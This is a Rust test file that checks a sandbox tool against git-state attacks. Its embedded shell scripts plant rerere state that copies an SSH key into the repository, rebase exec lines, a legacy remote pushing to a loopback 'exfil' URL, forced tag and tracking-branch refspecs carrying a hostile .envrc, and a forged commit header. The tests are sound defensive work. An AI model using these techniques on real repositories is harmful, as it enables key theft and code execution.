//! `skarn run`, attack atk22j (issue 22), git state host git acts on
//! later: rerere state that made the host's next `git commit` copy a
//! secret into the repository (F14); repositories a run creates, whose
//! rebase to-do list (F17) or legacy remote file (F16) host git followed;
//! fetch refspecs over a remote the run added that moved the user's tag
//! (F12) or another remote's tracking branch (F12b). Each test makes the
//! attack for real and judges from outside, after host git acted.

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::common::*;
use crate::run_atk22i_git::{LAYERS, attack, host_git, skip_without_git};
use crate::support_git::repo;
use skarn_test_support::TempDir;

const SECRET: &str = "SECRET-KEY-MATERIAL-atk22j";

/// Every file below `dir` whose content holds `needle`.
fn files_holding(dir: &Path, needle: &str) -> Vec<std::path::PathBuf> {
    let mut hits = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            match e.file_type() {
                Ok(t) if t.is_dir() => stack.push(p),
                Ok(t) if t.is_file() => {
                    let c = std::fs::read(&p).unwrap_or_default();
                    if c.windows(needle.len()).any(|w| w == needle.as_bytes()) {
                        hits.push(p);
                    }
                }
                _ => {}
            }
        }
    }
    hits
}

#[test]
fn rerere_state_a_run_plants_does_not_make_host_git_copy_a_secret() {
    // F14: `.git/rr-cache/<id>/preimage` (turns rerere on) and
    // `.git/MERGE_RR` naming `~/.ssh/id_ed25519`: the host's next plain
    // `git commit` recorded the key as `rr-cache/<id>/postimage`.
    if skip_without_git() {
        skarn_test_support::skip!("git is not installed");
    }
    for layer in LAYERS {
        let t = TempDir::new("atk22j-f14");
        let (home, ws) = (t.dir("home"), t.dir("ws"));
        let key = t.file("home/.ssh/id_ed25519", format!("{SECRET}\n"));
        repo(&ws, "a", "hi\n");
        let script = format!(
            "ID=0123456789abcdef0123456789abcdef01234567; mkdir -p .git/rr-cache/$ID && \
             echo '<<<<<<<' > .git/rr-cache/$ID/preimage && \
             printf '%s\\t%s\\0' $ID '{}' > .git/MERGE_RR && echo PLANTED",
            key.display()
        );
        let e = attack(&ws, &home, layer, &script);
        std::fs::write(ws.join("a"), "more\n").unwrap();
        let o = host_git(&ws, &home, &["commit", "-qam", "host work"]);
        assert!(o.status.success(), "{layer}: {}", err(&o));
        let hits = files_holding(&ws, SECRET);
        assert!(
            hits.is_empty(),
            "{layer}: host `git commit` copied the secret into {hits:?} (rerere state the run \
             left): {e}{}",
            err(&o)
        );
    }
}

/// A loopback listener counting connections (each closed at once).
fn listener() -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let n = Arc::new(AtomicUsize::new(0));
    let seen = n.clone();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            seen.fetch_add(1, Ordering::SeqCst);
            let mut s = s;
            let _ = s.set_read_timeout(Some(std::time::Duration::from_millis(200)));
            let _ = s.read(&mut [0u8; 512]);
        }
    });
    (port, n)
}

/// Run `script` in `ws` with `newproj` granted writable; it must print
/// PLANTED.
fn attack_with_grant(ws: &Path, home: &Path, layer: &str, newproj: &Path, script: &str) {
    let o = run_in(
        ws,
        home,
        &[
            "--workspace-layer",
            layer,
            "--write",
            newproj.to_str().unwrap(),
        ],
        &["sh", "-c", script],
    );
    assert!(
        out(&o).contains("PLANTED"),
        "{layer}: {}{}",
        out(&o),
        err(&o)
    );
}

/// Shell that makes a repository in the current directory with two
/// commits and leaves an interactive rebase stopped at a `break`, whose
/// next to-do line runs `touch <pwned>`.
fn rebase_in_progress(pwned: &Path) -> String {
    format!(
        "set -e; G='git -c user.name=t -c user.email=t@t'; git init -q -b master .; \
         echo hi > README; git add README; $G commit -qm init; echo 2 >> README; \
         $G commit -qam two; \
         GIT_SEQUENCE_EDITOR=\"printf 'break\\nexec touch {}\\n' >\" $G rebase -i HEAD~1 \
         >/dev/null 2>&1; test -d .git/rebase-merge; echo PLANTED",
        pwned.display()
    )
}

#[test]
fn a_repository_the_run_creates_keeps_no_rebase_to_do_list() {
    // F17: a repository made in an empty `--write` grant (and, written
    // directly, one made inside the workspace) kept `.git/rebase-merge/`
    // with an `exec` line: host `git rebase --continue` ran it.
    if skip_without_git() {
        skarn_test_support::skip!("git is not installed");
    }
    for layer in LAYERS {
        for inside in [false, true] {
            let t = TempDir::new("atk22j-f17");
            let (home, ws) = (t.dir("home"), t.dir("ws"));
            let pwned = t.join("PWNED");
            let script = rebase_in_progress(&pwned);
            let proj = if inside {
                repo(&ws, "a", "hi\n");
                let p = t.dir("ws/sub");
                let o = run_in(
                    &ws,
                    &home,
                    &["--workspace-layer", layer],
                    &["sh", "-c", &format!("cd sub && {script}")],
                );
                assert!(
                    out(&o).contains("PLANTED"),
                    "{layer}: {}{}",
                    out(&o),
                    err(&o)
                );
                p
            } else {
                let p = t.dir("newproj");
                attack_with_grant(
                    &ws,
                    &home,
                    layer,
                    &p,
                    &format!("cd {} && {script}", p.display()),
                );
                p
            };
            let _ = host_git(&proj, &home, &["status"]);
            let o = host_git(&proj, &home, &["rebase", "--continue"]);
            assert!(
                !pwned.exists(),
                "{layer} (inside the workspace: {inside}): host `git rebase --continue` ran the \
                 run's exec line: {}",
                err(&o)
            );
        }
    }
}

#[test]
fn a_repository_the_run_creates_keeps_no_legacy_remote_file() {
    // F16: `.git/remotes/origin` in a repository made in an empty
    // `--write` grant: `git remote -v` showed nothing, host `git push
    // origin master` connected to the URL the run chose.
    if skip_without_git() {
        skarn_test_support::skip!("git is not installed");
    }
    for layer in LAYERS {
        let t = TempDir::new("atk22j-f16");
        let (home, ws) = (t.dir("home"), t.dir("ws"));
        let proj = t.dir("newproj");
        let (port, seen) = listener();
        let script = format!(
            "set -e; cd {}; git init -q -b master .; echo hi > README; git add README; \
             git -c user.name=t -c user.email=t@t commit -qm init; mkdir -p .git/remotes; \
             printf 'URL: http://127.0.0.1:{port}/exfil\\nPush: refs/heads/*:refs/heads/*\\n' \
             > .git/remotes/origin; echo PLANTED",
            proj.display()
        );
        attack_with_grant(&ws, &home, layer, &proj, &script);
        let o = host_git(&proj, &home, &["push", "origin", "master"]);
        std::thread::sleep(std::time::Duration::from_millis(300));
        assert_eq!(
            seen.load(Ordering::SeqCst),
            0,
            "{layer}: host `git push origin` connected to the URL of the run's legacy remote \
             file: {}",
            err(&o)
        );
    }
}

/// Shell run in the workspace: a bare repository `vendor/cache.git`
/// holding a commit with `.envrc` (pushed as `<refs>` from a clone of
/// the workspace, `<tag>` run there first), then `<then>`.
fn cache_with_envrc(refs: &str, tag: &str, then: &str) -> String {
    format!(
        "set -e; G='git -c user.name=t -c user.email=t@t'; ws=$PWD; \
         git init -q --bare vendor/cache.git; t=$(mktemp -d); git clone -q \"$ws\" $t/c; \
         cd $t/c; printf 'touch PWNED\\n' > .envrc; git add .envrc; $G commit -qm fix; {tag}; \
         git push -q -f \"$ws/vendor/cache.git\" {refs}; cd \"$ws\"; {then}; echo PLANTED"
    )
}

#[test]
fn a_remote_the_run_adds_cannot_force_the_users_tags() {
    // F12: remote `cache` over a bare repository the run made, with
    // `+refs/tags/*:refs/tags/*`: host `git fetch --all` moved the user's
    // tag `v1.0` to the run's commit; `git checkout v1.0` wrote `.envrc`.
    if skip_without_git() {
        skarn_test_support::skip!("git is not installed");
    }
    for layer in LAYERS {
        let t = TempDir::new("atk22j-f12");
        let (home, ws) = (t.dir("home"), t.dir("ws"));
        repo(&ws, "a", "hi\n");
        git(&ws, &["tag", "v1.0"]);
        let script = cache_with_envrc(
            "HEAD:refs/heads/main refs/tags/v1.0",
            "git tag -f v1.0 >/dev/null",
            "git remote add cache vendor/cache.git; \
             git config --replace-all remote.cache.fetch '+refs/tags/*:refs/tags/*'",
        );
        let e = attack(&ws, &home, layer, &script);
        let _ = host_git(&ws, &home, &["fetch", "-q", "--all"]);
        let _ = host_git(&ws, &home, &["checkout", "-q", "v1.0"]);
        assert!(
            !ws.join(".envrc").exists(),
            "{layer}: host `git fetch --all` moved the user's tag to the run's commit: {e}"
        );
    }
}

#[test]
fn a_remote_the_run_adds_cannot_write_another_remotes_tracking_branches() {
    // F12b: a remote named `origin/feature` gets `+refs/heads/*:
    // refs/remotes/origin/feature/*`, origin's tracking namespace: after
    // host `git fetch --all`, `git merge --ff-only @{u}` took the run's
    // commit.
    if skip_without_git() {
        skarn_test_support::skip!("git is not installed");
    }
    for layer in LAYERS {
        let t = TempDir::new("atk22j-f12b");
        let (home, up) = (t.dir("home"), t.dir("up"));
        repo(&up, "a", "hi\n");
        git(&up, &["branch", "feature/login"]);
        let ws = t.join("ws");
        let o = host_git(
            t.path(),
            &home,
            &["clone", "-q", up.to_str().unwrap(), ws.to_str().unwrap()],
        );
        assert!(o.status.success(), "{}", err(&o));
        let o = host_git(
            &ws,
            &home,
            &[
                "checkout",
                "-q",
                "-b",
                "feature/login",
                "--track",
                "origin/feature/login",
            ],
        );
        assert!(o.status.success(), "{}", err(&o));
        let script = cache_with_envrc(
            "HEAD:refs/heads/login",
            "true",
            "git remote add origin/feature vendor/cache.git",
        );
        let e = attack(&ws, &home, layer, &script);
        let _ = host_git(&ws, &home, &["fetch", "-q", "--all"]);
        let _ = host_git(&ws, &home, &["merge", "-q", "--ff-only", "@{u}"]);
        assert!(
            !ws.join(".envrc").exists(),
            "{layer}: host `git fetch --all` stored the run's commit as origin's tracking \
             branch: {e}"
        );
    }
}

#[test]
fn a_parent_header_git_does_not_read_does_not_vouch_for_a_tree() {
    // H1 (b): a commit the run writes with `parent <HEAD>` in its place
    // and a second `parent <pr>` after `committer` (an extra header to
    // git) took `.envrc` from the never-merged `pr` as "there before";
    // host `git reset --hard` wrote it.
    if skip_without_git() {
        skarn_test_support::skip!("git is not installed");
    }
    for layer in LAYERS {
        let t = TempDir::new("atk22j-h1");
        let (home, ws) = (t.dir("home"), t.dir("ws"));
        repo(&ws, "a", "hi\n");
        git(&ws, &["checkout", "-q", "-b", "pr"]);
        std::fs::write(ws.join(".envrc"), "touch PWNED\n").unwrap();
        git(&ws, &["add", ".envrc"]);
        git(&ws, &["commit", "-qm", "pr"]);
        git(&ws, &["checkout", "-q", "master"]);
        let script = "set -e; X=$(git rev-parse pr); H=$(git rev-parse HEAD); \
             b=$(git rev-parse pr:.envrc); GIT_INDEX_FILE=.git/t git read-tree HEAD; \
             GIT_INDEX_FILE=.git/t git update-index --add --cacheinfo 100644,$b,.envrc; \
             T=$(GIT_INDEX_FILE=.git/t git write-tree); rm .git/t; \
             C=$(printf 'tree %s\\nparent %s\\nauthor a <a@b> 1 +0000\\ncommitter a <a@b> 1 +0000\\nparent %s\\n\\ntidy\\n' \
                 $T $H $X | git hash-object -t commit -w --stdin); \
             git update-ref refs/heads/master $C; echo PLANTED";
        let e = attack(&ws, &home, layer, script);
        let _ = host_git(&ws, &home, &["reset", "-q", "--hard"]);
        assert!(
            !ws.join(".envrc").exists(),
            "{layer}: host `git reset --hard` wrote the tree of a commit judged against a \
             parent header git does not read: {e}"
        );
    }
}
